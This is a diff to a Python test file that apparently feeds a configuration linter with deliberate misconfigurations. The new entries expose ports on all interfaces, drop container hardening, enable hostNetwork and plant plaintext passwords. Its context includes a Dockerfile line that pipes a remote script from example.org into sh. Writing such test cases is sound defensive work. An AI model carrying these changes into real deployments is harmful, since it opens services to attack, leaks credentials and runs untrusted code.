@@ -327,9 +327,18 @@ MUTATIONS: dict[str, Callable[[], Files]] = {
     ),
     "CMP015": put(
         "more/compose.yaml",
-        "services: {a: {image: 'b:1', restart: 'no', cap_drop: [ALL], ports: ['443:443', '8000:8000']}}\n",
+        "services: {a: {image: 'b:1', restart: 'no', cap_drop: [ALL],"
+        " ports: ['443:443', '8000:8000']}}\n",
         kind="service",
     ),
+    "CMP016": edit(
+        "monitoring/compose.yaml",
+        "127.0.0.1:${PROMETHEUS_PORT:-9090}",
+        "${PROMETHEUS_PORT:-9090}",
+        kind="service",
+    ),
+    "CMP017": edit(COMPOSE, "  cap_drop: [ALL]\n", "", kind="service"),
+    "CMP018": edit(COMPOSE, "127.0.0.1:${AIRFLOW_PORT:?}", "${AIRFLOW_PORT:?}", kind="pipeline"),
     "HLM001": put("chart/values.schema.json", None, kind="service"),
     "HLM002": put(MORE, "kind: Job\nresources: {}\n", kind="service"),
     "HLM003": put(MORE, "kind: Ingress\nspec: {}\n", kind="service"),
@@ -340,6 +349,12 @@ MUTATIONS: dict[str, Callable[[], Files]] = {
     ),
     "HLM005": put(MORE, "kind: Job\nsecurityContext: {}\n", kind="service"),
     "HLM006": edit("chart/values.yaml", 'tag: ""', "tag: latest", kind="service"),
+    "HLM007": put(
+        MORE,
+        "kind: Job\nsecurityContext: {}\nresources: {}\nhostNetwork: true\n",
+        kind="service",
+    ),
+    "HLM008": edit("chart/values.yaml", 'tag: ""', 'tag: ""\n  password: a1', kind="service"),
     "DJA001": edit(SETTINGS, "DEBUG = False", "DEBUG = True", kind="service"),
     "DJA002": edit(SETTINGS, "ALLOWED_HOSTS = [", 'ALLOWED_HOSTS = ["*", ', kind="service"),
     "DJA003": edit(
@@ -388,6 +403,10 @@ MUTATIONS: dict[str, Callable[[], Files]] = {
         "@app.post('/')\ndef take():\n    requests.post('http://airflow/api/v2/dags/a/dagRuns')\n",
         kind="pipeline",
     ),
+    "DAG015": edit("steps.yaml", "/noise\n", "/noise:latest\n", kind="pipeline"),
+    "DAG016": lambda: changed(
+        clean(kind="pipeline"), {"dags/other.py": clean(kind="pipeline")["dags/noise.py"]}
+    ),
     "DAG011": put("dags/small.py", ANY_DAG + "import airflow.contrib.a\n"),
     "DOC001": edit("README.md", "(CONTRIBUTING.md)", "(CONTRIBUTE.md)"),
     "DOC002": put("README.md", "# A\n\nBSD-3-Clause.\n"),
@@ -412,6 +431,7 @@ MUTATIONS: dict[str, Callable[[], Files]] = {
     "SEC006": edit(
         DOCKER, "USER lisauser", "RUN curl -fsS https://example.org/a.sh | sh\nUSER lisauser"
     ),
+    "SEC007": put("production.env", "MAIL_PASSWORD=sw0rdFish7\n", kind="service"),
     "SEC004": edit(
         ".gitlab-ci.yml",
         "include:\n",
